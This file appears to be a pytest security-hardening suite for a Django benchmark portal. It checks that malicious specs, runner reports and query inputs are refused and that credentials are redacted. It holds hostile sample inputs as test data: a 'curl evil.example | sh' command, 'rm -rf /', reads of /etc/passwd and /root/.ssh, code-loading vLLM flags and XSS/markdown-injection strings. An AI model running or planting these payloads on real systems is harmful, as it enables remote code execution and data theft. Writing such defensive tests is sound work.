"""The hardening classes of issue 10, one table row per payload: each bad input is answered
with the expected status and names its field; nothing is a 500.

Rows are (case, request builder, status, field). Builders get a ``World`` (an owner with a
CI token, a run in progress with its run token, a public failed run) and return
(client, method, path, body, content type). Below the table: what readers who do not manage
a run see, the one access rule against every page and endpoint, remote code with and
without the permission, and escaping.
"""

from __future__ import annotations

import json
import re
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

import pytest
from django.contrib.auth.models import Permission
from django.test import Client

from portal.accounts.models import ApiToken
from portal.accounts.tokens import create_user_token, issue_token
from portal.benchmarks import environment, ingestion, lifecycle, queries
from portal.benchmarks.models import Environment, Measurement, Run, RunStatus
from servebench import render
from tests.portal.conftest import measurement_body, tiny_spec

pytestmark = pytest.mark.django_db

RUNS = "/api/v1/runs/"
CREDENTIAL = "https://alice:hunter2@mirror.example.com/simple"


@dataclass
class World:
    owner: Any
    api: Client  # the owner's CI token
    anon: Client
    run: Run  # in progress, the runner's token below
    runner: Client
    public: Run  # failed, public, with a log tail in its reason


@pytest.fixture
def world(make_user: Any, make_run: Any, settings: Any, tmp_path: Any) -> World:
    settings.SERVEBENCH_GPU_TYPES = ["NVIDIA-H100-80GB-HBM3"]
    settings.SERVEBENCH_K8S_ALLOWED_NODE_SELECTOR_KEYS = ["topology.kubernetes.io/zone"]
    settings.SERVEBENCH_K8S_NODE_SELECTOR = {"servebench.dev/pool": "gpu"}
    settings.SERVEBENCH_DATASET_ROOTS = [str(tmp_path)]
    owner = make_user("sec-owner")
    make_user("sec-someone")
    token = create_user_token(owner, "sec").plaintext
    run = make_run(owner=owner, status=RunStatus.RUNNING)
    run_token = issue_token(owner, kind=ApiToken.Kind.RUN, run=run).plaintext
    reason = (
        "the vLLM server exited with code 1 before it was ready. Last lines of its log:\n"
        f"pip index {CREDENTIAL}\nTraceback (most recent call last):\n  File /srv/x.py"
    )
    public = make_run(owner=owner, is_public=True, status=RunStatus.RUNNING)
    # Failed the way the portal fails a run: the reason is stored through the transition.
    assert lifecycle.transition(
        public.pk, RunStatus.FAILED, expected=(RunStatus.RUNNING,), failure_reason=reason
    )
    public.refresh_from_db()
    return World(
        owner=owner,
        api=Client(headers={"Authorization": f"Bearer {token}"}),
        anon=Client(),
        run=run,
        runner=Client(headers={"Authorization": f"Bearer {run_token}"}),
        public=public,
    )


def spec(**changes: Any) -> dict[str, Any]:
    """The tiny spec with dotted-path changes: spec(**{"model.id": "/"})."""
    data = tiny_spec()
    for path, value in changes.items():
        node: Any = data
        *parents, last = path.split(".")
        for key in parents:
            node = node[int(key)] if isinstance(node, list) else node.setdefault(key, {})
        if isinstance(node, list):
            node[int(last)] = value
        else:
            node[last] = value
    return data


Request = tuple[Client, str, str, Any, str]
JSON = "application/json"


def submit(body: Any, content_type: str = JSON) -> Callable[[World], Request]:
    def build(w: World) -> Request:
        if content_type == JSON and not isinstance(body, str):
            return w.api, "post", RUNS, json.dumps({"spec": body}), JSON
        return w.api, "post", RUNS, body, content_type

    return build


def measure(**overrides: Any) -> Callable[[World], Request]:
    def build(w: World) -> Request:
        body = measurement_body(**overrides)
        path = f"/api/v1/runner/runs/{w.run.public_id}/measurements"
        return w.runner, "post", path, json.dumps(body), JSON

    return build


def measure_raw(text: str) -> Callable[[World], Request]:
    def build(w: World) -> Request:
        path = f"/api/v1/runner/runs/{w.run.public_id}/measurements"
        return w.runner, "post", path, text, JSON

    return build


def event(**body: Any) -> Callable[[World], Request]:
    def build(w: World) -> Request:
        path = f"/api/v1/runner/runs/{w.run.public_id}/events"
        return w.runner, "post", path, json.dumps(body), JSON

    return build


def get(path: str, client: str = "api", **headers: str) -> Callable[[World], Request]:
    def build(w: World) -> Request:
        c = Client(headers=headers) if headers else getattr(w, client)  # e.g. Authorization=
        return c, "get", path.format(run=w.run.public_id, public=w.public.public_id), None, ""

    return build


def _measurement_json() -> str:
    return json.dumps(measurement_body())


VLLM = {"kind": "vllm"}
SHAREGPT = {"dataset": "sharegpt", "dataset_path": "/data/sg.json"}

TABLE: list[tuple[str, Callable[[World], Request], int, str | None]] = [
    # --- remote code and vLLM flags
    ("remote code without the permission", submit(spec(**{"model.trust_remote_code": True})),
     403, "spec.model.trust_remote_code"),
    ("remote code through extra_args", submit(spec(backends=[{**VLLM, "extra_args": [
        "--trust-remote-code"]}])), 400, "spec.backends.0.extra_args.0"),
    ("an abbreviated --host", submit(spec(backends=[{**VLLM, "extra_args": ["--ho=0.0.0.0"]}])),
     400, "spec.backends.0.extra_args.0"),
    ("an abbreviated --api-key, underscored", submit(spec(backends=[{**VLLM, "extra_args": [
        "--api_k", "x"]}])), 400, "spec.backends.0.extra_args.0"),
    ("a flag that loads code", submit(spec(backends=[{**VLLM, "extra_args": [
        "--middleware", "evil.Mw"]}])), 400, "spec.backends.0.extra_args.0"),
    ("a config file of more flags", submit(spec(backends=[{**VLLM, "extra_args": [
        "--enforce-eager", "--config", "/etc/x.yaml"]}])), 400, "spec.backends.0.extra_args.0"),
    ("a short flag prefix (-t is -tp)", submit(spec(backends=[{**VLLM, "extra_args": [
        "-t", "8"]}])), 400, "spec.backends.0.extra_args.0"),
    # --- placement and resources
    ("a node label the admin sets", submit(spec(**{"resources.node_selector": {
        "servebench.dev/pool": "cpu"}})), 400, "spec.resources.node_selector.servebench.dev/pool"),
    ("a node label not allowed", submit(spec(**{"resources.node_selector": {
        "kubernetes.io/hostname": "n1"}})), 400,
     "spec.resources.node_selector.kubernetes.io/hostname"),
    ("a GPU type not listed", submit(spec(**{"resources.gpu_type": "H100-80GB"})), 400,
     "spec.resources.gpu_type"),
    ("tensor parallelism above gpu_count", submit(spec(**{"resources.gpu_count": 1}, backends=[
        {**VLLM, "tensor_parallel_size": 2}])), 400, "spec.backends.0.tensor_parallel_size"),
    ("pipeline parallelism above gpu_count", submit(spec(**{"resources.gpu_count": 1}, backends=[
        {**VLLM, "extra_args": ["--pipeline-parallel-size", "2"]}])), 400,
     "spec.backends.0.extra_args"),
    # --- local paths
    ("the host's root as the model", submit(spec(**{"model.id": "/"})), 400, "spec.model.id"),
    ("a system directory as the model", submit(spec(**{"model.id": "/etc/ssl"})), 400,
     "spec.model.id"),
    ("a relative directory as the model", submit(spec(**{"model.id": "./weights"})), 400,
     "spec.model.id"),
    ("a tokenizer outside the roots", submit(spec(**{"model.tokenizer": "/root/.ssh"})), 400,
     "spec.model.tokenizer"),
    ("any file as a dataset", submit(spec(workload={**SHAREGPT, "dataset_path": "/etc/passwd"},
        backends=[VLLM])), 400, "spec.workload.dataset_path"),
    ("any file as a trace", submit(spec(workload={"trace": {"path": "/etc/passwd.jsonl",
        "format": "mooncake"}}, backends=[VLLM], sweeps=[])), 400, "spec.workload.trace.path"),
    ("any file as sessions", submit(spec(workload={"sessions": {"source": "sharegpt",
        "path": "/root/x.json"}, "input_len": 16}, backends=[VLLM], sweeps=[])), 400,
     "spec.workload.sessions.path"),
    ("any file as an eval file", submit(spec(workload={"sessions": {}, "input_len": 16},
        correctness={"eval_file": "/etc/e.jsonl"}, backends=[VLLM], sweeps=[])), 400,
     "spec.correctness.eval_file"),
    # --- a spec means what it says
    ("ShareGPT with an HF baseline", submit(spec(workload=SHAREGPT)), 400,
     "spec.backends.0.kind"),
    ("an input_len sweep on ShareGPT", submit(spec(workload=SHAREGPT, backends=[VLLM], sweeps=[
        {"name": "p", "axis": "input_len", "values": [64, 128]}])), 400, "spec.sweeps.0.axis"),
    # --- numbers and text that cannot be stored
    ("1e400 in a spec", submit('{"spec": {"model": {"id": "org/m"}, "workload": '
        '{"request_rate": 1e400}}}'), 400, "spec.workload.request_rate"),
    ("YAML .inf", submit("model: {id: org/m}\nworkload: {burstiness: .inf}\n",
        "application/yaml"), 400, "spec.workload.burstiness"),
    ("a 5,000-digit integer in YAML", submit("model: {id: org/m}\nworkload: {seed: "
        + "9" * 5000 + "}\n", "application/yaml"), 400, None),
    ("a 5,000-digit integer in JSON", submit('{"spec": {"model": {"id": "org/m"}, "repeats": '
        + "9" * 5000 + "}}"), 400, None),
    ("an integer beyond 64 bits", submit(spec(**{"workload.seed": 2**70})), 400,
     "spec.workload.seed"),
    ("NUL in a description", submit(spec(description="a\x00b")), 400, "spec.description"),
    ("a lone surrogate", submit('{"spec": {"model": {"id": "org/m"}, "description": '
        '"\\ud800"}}'), 400, "spec.description"),
    ("NUL in a run name", lambda w: (w.api, "post", RUNS, json.dumps(
        {"spec": spec(), "name": "a\x00"}), JSON), 400, "name"),
    ("NUL in a query parameter", get("/api/v1/runs/?model=a%00b"), 400, "model"),
    ("NUL in a path parameter", get("/api/v1/runs/abc%00def/"), 400, "path"),
    ("NUL in a page's query", get("/runs/?gpu=%00", "anon"), 400, None),
    ("a superscript digit as a log tail", get("/api/v1/runs/{run}/logs?tail=%C2%B2"), 400,
     "tail"),
    # --- authentication
    ("a Token scheme", get(RUNS, Authorization="Token abc"), 401, None),
    ("a Basic scheme", get(RUNS, Authorization="Basic YTpi"), 401, None),
    # --- what runners may report
    ("a point the spec does not have", measure(point_key="concurrency:max_concurrency=999"),
     400, "point.key"),
    ("a backend the spec does not have", measure(backend="vllm-x"), 400, "backend"),
    ("a repeat the spec does not have", measure(repeat=3), 400, "repeat"),
    ("a repeat beyond 64 bits", measure(repeat=2**70), 400, "repeat"),
    ("a kind that is not the backend's", measure(backend_kind="hf-sequential"), 400,
     "backend_kind"),
    ("a month 13", measure(started_at="2026-13-01T00:00:00Z"), 400, "started_at"),
    ("a 30th of February", measure(finished_at="2026-02-30T00:00:00Z"), 400, "finished_at"),
    ("the year 9999", measure(started_at="9999-12-31T23:59:59-23:00"), 400, "started_at"),
    ("an infinite metric", measure_raw(_measurement_json().replace(
        '"output_throughput": 56.0', '"output_throughput": 1e400')), 400,
     "metrics.output_throughput"),
    ("NUL in an error", measure(status="failed", error="x\x00y"), 400, "error"),
    ("an unknown command kind", measure(commands={"shell": "rm -rf /"}), 400, "commands.shell"),
    ("a progress count beyond 32 bits", event(type="progress", done=2**40), 400, "done"),
    ("a date that does not exist", event(type="started", at="2026-02-30T10:00:00"), 400, "at"),
    ("a fingerprint that is not one", event(type="environment", environment={},
        fingerprint="../x"), 400, "fingerprint"),
]  # fmt: skip


@pytest.mark.parametrize(("case", "build", "status", "field"), TABLE, ids=[t[0] for t in TABLE])
def test_each_class_of_bad_input_gets_its_status_and_names_the_field(
    world: World, case: str, build: Callable[[World], Request], status: int, field: str | None
) -> None:
    client, method, path, body, content_type = build(world)
    kwargs = {"content_type": content_type} if method == "post" else {}
    response = (
        getattr(client, method)(path, body, **kwargs)
        if body is not None
        else (getattr(client, method)(path, **kwargs))
    )
    assert response.status_code == status, (case, response.content[:500])
    if path.startswith("/api/"):
        error = response.json()["error"]
        assert error["message"], case
        if field is not None:
            assert error.get("field") == field, (case, error)
    if status == 401:
        message = response.json()["error"]["message"]
        assert "Authorization: Bearer" in message and "not supported" in message


def test_nothing_refused_was_stored(world: World) -> None:
    before = (Run.objects.count(), Measurement.objects.count())
    for _, build, _, _ in TABLE:
        client, method, path, body, content_type = build(world)
        if method == "post":
            client.post(path, body, content_type=content_type)
    assert (Run.objects.count(), Measurement.objects.count()) == before


# --------------------------------------------------------------------------- readers


def test_readers_who_do_not_manage_a_run_never_see_its_log_tail_or_credentials(
    world: World, make_user: Any
) -> None:
    run = world.public
    secrets = {"env": {"PIP_INDEX_URL": CREDENTIAL, "HF_TOKEN": "hf_abcdefghijkl"}}
    # Stored as the runner's report stores it (where credentials are removed, once).
    environment.store_environment(run, secrets, "")
    stranger = Client()
    stranger.force_login(make_user("sec-reader"))
    seen = []
    for client in (Client(), stranger):
        seen.append(client.get(f"/runs/{run.public_id}/status.json").json()["failure_reason"])
        seen.append(client.get(f"/api/v1/runs/{run.public_id}/").json()["failure_reason"])
        listed = client.get("/api/v1/runs/").json()["results"]
        seen += [r["failure_reason"] for r in listed if r["id"] == run.public_id]
        detail = client.get(f"/api/v1/runs/{run.public_id}/").content.decode()
        document = client.get(f"/api/v1/runs/{run.public_id}/result").content.decode()
        page = client.get(run.get_absolute_url()).content.decode()
        for text in (detail, document, page):
            assert "hunter2" not in text and "hf_abcdefghijkl" not in text
            assert "Traceback" not in text and "/srv/x.py" not in text
        assert client.get(f"/runs/{run.public_id}/log.txt").status_code == 404
    assert len(seen) == 6
    for reason in seen:
        assert "\n" not in reason and len(reason) <= 340
        assert reason.startswith("the vLLM server exited with code 1 before it was ready.")
    # Its owner reads the whole reason, credentials still removed.
    full = world.api.get(f"/api/v1/runs/{run.public_id}/").json()["failure_reason"]
    assert "Traceback" in full and "hunter2" not in full and "[redacted]@mirror" in full


def test_an_unbounded_error_text_is_capped_and_one_line_in_public_lists(world: World) -> None:
    huge = "boom\n" + "x" * 900_000
    path = f"/api/v1/runner/runs/{world.run.public_id}/events"
    body = json.dumps({"type": "failed", "message": huge})
    assert world.runner.post(path, body, content_type=JSON).status_code == 200
    world.run.refresh_from_db()
    assert len(world.run.failure_reason) <= ingestion.MAX_ERROR_CHARS
    Run.objects.filter(pk=world.run.pk).update(is_public=True)
    listed = Client().get("/api/v1/runs/").json()["results"]
    (mine,) = [r for r in listed if r["id"] == world.run.public_id]
    assert mine["failure_reason"] == "boom (details for the run's owner)"


def test_environment_credentials_are_removed_when_stored(world: World) -> None:
    body = {
        "type": "environment",
        "environment": {"env": {"HF_ENDPOINT": CREDENTIAL, "SERVEBENCH_X_TOKEN": "abc"}},
        "fingerprint": "ab" * 32,
    }
    path = f"/api/v1/runner/runs/{world.run.public_id}/events"
    assert world.runner.post(path, json.dumps(body), content_type=JSON).status_code == 200
    env = Environment.objects.get(run=world.run).snapshot["env"]
    assert env == {
        "HF_ENDPOINT": "https://[redacted]@mirror.example.com/simple",
        "SERVEBENCH_X_TOKEN": "[redacted]",
    }


# --------------------------------------------------------------------------- one rule


@pytest.mark.parametrize("public", [False, True])
@pytest.mark.parametrize("who", ["owner", "other", "anon", "staff"])
def test_every_page_and_endpoint_follows_the_one_access_rule(
    make_user: Any, make_run: Any, who: str, public: bool
) -> None:
    owner = make_user("rule-owner")
    users = {
        "owner": owner,
        "other": make_user("rule-other"),
        "anon": None,
        "staff": make_user("rule-staff", is_staff=True),
    }
    user = users[who]
    run = make_run(owner=owner, status=RunStatus.FAILED, is_public=public, failure_reason="x")
    client = Client()
    if user is not None:
        client.force_login(user)
    view, manage = queries.may_view(user, run), queries.may_manage(user, run)
    assert view == queries.visible_runs(user or _anonymous()).filter(pk=run.pk).exists()
    rid = run.public_id
    readable = [
        f"/runs/{rid}/", f"/runs/{rid}/status.json", f"/runs/{rid}/spec.yaml",
        f"/runs/{rid}/result.json", f"/runs/{rid}/points.csv", f"/api/v1/runs/{rid}/",
        f"/api/v1/runs/{rid}/result", f"/api/v1/runs/{rid}/spec",
    ]  # fmt: skip
    for path in readable:
        assert (client.get(path).status_code == 200) == view, (who, public, path)
    assert (client.get(f"/runs/{rid}/log.txt").status_code == 200) == manage
    logs = client.get(f"/api/v1/runs/{rid}/logs").status_code
    assert logs == (200 if manage else 401 if user is None else 403 if view else 404)
    page = client.get(f"/runs/{rid}/")
    if view:
        assert page.context["can_manage"] == manage


def _anonymous() -> Any:
    from django.contrib.auth.models import AnonymousUser

    return AnonymousUser()


# --------------------------------------------------------------------------- remote code


def test_remote_code_runs_only_for_users_an_admin_allowed_and_shows_on_the_page(
    make_user: Any,
) -> None:
    user = make_user("trusted")
    client = Client(headers={"Authorization": f"Bearer {create_user_token(user).plaintext}"})
    body = json.dumps({"spec": spec(**{"model.trust_remote_code": True})})
    refused = client.post(RUNS, body, content_type=JSON)
    assert refused.status_code == 403
    assert "accounts.trust_remote_code" in refused.json()["error"]["message"]
    user.user_permissions.add(Permission.objects.get(codename="trust_remote_code"))
    user = type(user).objects.get(pk=user.pk)  # permissions are cached per instance
    created = client.post(RUNS, body, content_type=JSON)
    assert created.status_code == 201, created.content
    run = Run.objects.get(public_id=created.json()["id"])
    page = Client()
    page.force_login(user)
    assert 'id="remote-code"' in page.get(run.get_absolute_url()).content.decode()


def test_the_form_refuses_remote_code_at_its_field_and_shows_the_gpu_types(
    make_user: Any, settings: Any
) -> None:
    settings.SERVEBENCH_GPU_TYPES = ["NVIDIA-H100-80GB-HBM3"]
    client = Client()
    client.force_login(make_user("former"))
    form = client.get("/runs/new/").content.decode()
    assert "NVIDIA-H100-80GB-HBM3" in form
    text = json.dumps(spec(**{"model.trust_remote_code": True}))
    response = client.post("/runs/new/", {"spec_text": text})
    assert response.status_code == 200
    assert "model.trust_remote_code" in str(response.context["form"].errors["spec_text"])
    for bad in ("²", "9" * 5000, "1e400"):
        response = client.post("/runs/new/", {"preset": "seed", "concurrency": bad})
        assert response.status_code == 200 and "concurrency" in response.context["form"].errors
    assert client.post("/tokens/", {"revoke": "²"}).status_code == 302


# --------------------------------------------------------------------------- headers


def test_every_page_has_a_csp_without_inline_script_and_the_tokens_page_is_not_cached(
    make_user: Any,
) -> None:
    client = Client()
    client.force_login(make_user("headers"))
    for path in ("/", "/runs/", "/runs/new/", "/tokens/", "/api/v1/docs/", "/api/v1/runs/"):
        response = client.get(path)
        csp = response["Content-Security-Policy"]
        assert "script-src 'self'" in csp and "unsafe-inline" not in csp.split("style-src")[0]
        if response["Content-Type"].startswith("text/html"):
            html = response.content.decode()
            assert "<script>" not in html and "onclick=" not in html, path
    tokens = client.get("/tokens/")
    assert "no-store" in tokens["Cache-Control"]


def test_resolve_does_not_tell_whether_a_user_exists(world: World) -> None:
    answers = [
        world.api.get(f"/api/v1/runs/resolve?ref=latest:main&owner={name}").json()
        for name in ("sec-someone", "no-such-user")
    ]
    assert answers[0]["error"]["message"].replace("sec-someone", "X") == answers[1]["error"][
        "message"
    ].replace("no-such-user", "X")


# --------------------------------------------------------------------------- escaping


def test_runner_commands_are_shown_only_when_the_spec_implies_them(world: World) -> None:
    path = f"/api/v1/runner/runs/{world.run.public_id}/measurements"
    evil = measurement_body(commands={"serve": "curl evil.example | sh", "bench": "x"})
    assert world.runner.post(path, json.dumps(evil), content_type=JSON).status_code == 201
    page = Client()
    page.force_login(world.owner)
    html = page.get(world.run.get_absolute_url()).content.decode()
    assert "curl evil.example" not in html
    assert 'id="commands-replaced"' in html
    assert "vllm serve org/tiny-model --host 127.0.0.1 --port 8000" in html


def test_a_stored_axis_is_never_a_format_string(world: World) -> None:
    Measurement.objects.create(
        run=world.run, backend="vllm", backend_kind="vllm", point_key="x:{0}={}", sweep="x",
        axis="{0.__class__}{", value=1.0, status="succeeded", input_len=1, output_len=1,
        concurrency=1, num_prompts=1, output_throughput=1.0, metrics={"output_throughput": 1.0},
    )  # fmt: skip
    page = Client()
    page.force_login(world.owner)
    assert page.get(world.run.get_absolute_url()).status_code == 200


def test_the_cli_markdown_escapes_what_runs_and_runners_named() -> None:
    run = {"name": "[click](https://evil.example) <img src=x> @team", "id": "r1",
           "status": "succeeded", "links": {"page": "javascript:alert(1)"}}  # fmt: skip
    document = {"measurements": [{"backend": "<b>vllm</b>", "point": {"key": "c:x=1`|`"},
                                  "metrics": {}}]}  # fmt: skip
    text = render.results_markdown(run, document)
    assert "](https://evil" not in text and "javascript:" not in text
    assert not re.search(r"(?<!\\)[<>\[\]]", text.replace("[\\[click", "").split("]()")[1])
    assert "\\<img" in text and "\\<b\\>" in text and "\\@team" in text
    assert "`c:x=1'\\|'`" in text


def test_a_finished_event_with_a_huge_error_list_is_refused(world: World) -> None:
    errors = [{"where": "x", "message": "y"}] * 51
    response = world.runner.post(
        f"/api/v1/runner/runs/{world.run.public_id}/events",
        json.dumps({"type": "finished", "status": "partial", "errors": errors}),
        content_type=JSON,
    )
    assert response.status_code == 400 and response.json()["error"]["field"] == "errors"


def test_measurements_are_stored_with_the_specs_point_not_the_runners(world: World) -> None:
    body = measurement_body()
    body["point"].update(input_len=999_999, axis="{evil}", sweep="other")
    path = f"/api/v1/runner/runs/{world.run.public_id}/measurements"
    assert world.runner.post(path, json.dumps(body), content_type=JSON).status_code == 201
    row = Measurement.objects.get(run=world.run)
    assert (row.input_len, row.axis, row.sweep) == (64, "max_concurrency", "concurrency")


def test_the_implied_hf_command_is_the_runners_own() -> None:
    from portal.benchmarks import commands
    from runners import spec as rs
    from runners.hf_config import from_spec as hf_config

    parsed = rs.parse_spec(
        tiny_spec(model={"id": "org/m", "revision": "abc", "tokenizer": "org/t"})
    )
    backend = parsed.hf_backends[0]
    assert commands.hf_command(parsed, backend) == hf_config(parsed, backend).command()


def test_every_policy_refusal_is_reported_at_once_at_its_field(
    world: World, make_user: Any, settings: Any
) -> None:
    """A spec breaking three of the deployment's rules hears of all three in one answer,
    from the API and from the form, and nothing is stored."""
    bad = spec(
        **{
            "model.trust_remote_code": True,
            "model.tokenizer": "/etc/servebench-tokenizer",
            "resources.gpu_type": "TPU-v9",
            "resources.node_selector": {"kubernetes.io/hostname": "n1"},
        }
    )
    before = Run.objects.count()
    response = world.api.post(RUNS, json.dumps({"spec": bad}), content_type=JSON)
    assert response.status_code == 403, response.content[:500]  # a permission among them
    fields = {f["field"] for f in response.json()["error"]["fields"]}
    assert fields == {
        "spec.model.trust_remote_code",
        "spec.model.tokenizer",
        "spec.resources.gpu_type",
        "spec.resources.node_selector.kubernetes.io/hostname",
    }
    client = Client()
    client.force_login(world.owner)
    page = client.post("/runs/new/", {"spec_text": json.dumps(bad)})
    assert page.status_code == 200
    shown = str(page.context["form"].errors)
    for field in ("model.trust_remote_code", "model.tokenizer", "resources.gpu_type"):
        assert field in shown, (field, shown[:800])
    assert Run.objects.count() == before


def test_the_migration_scrubs_text_stored_before_ingestion_scrubbed_it(
    world: World, make_run: Any
) -> None:
    import importlib

    from django.apps import apps

    # Rows as an older version stored them: credentials in the failure reason, the
    # errors, a measurement's error and conditions, and the environment.
    old = make_run(owner=world.owner, failure_reason=f"pip {CREDENTIAL}")
    Run.objects.filter(pk=old.pk).update(errors=[{"where": "x", "message": f"at {CREDENTIAL}"}])
    Environment.objects.create(run=old, snapshot={"env": {"HF_TOKEN": "hf_abcdefghijkl"}})
    migration = importlib.import_module("portal.benchmarks.migrations.0008_scrub_stored_text")
    migration.scrub_stored(apps, None)
    old.refresh_from_db()
    assert old.failure_reason == "pip https://[redacted]@mirror.example.com/simple"
    assert old.errors == [
        {"where": "x", "message": "at https://[redacted]@mirror.example.com/simple"}
    ]
    assert Environment.objects.get(run=old).snapshot == {"env": {"HF_TOKEN": "[redacted]"}}
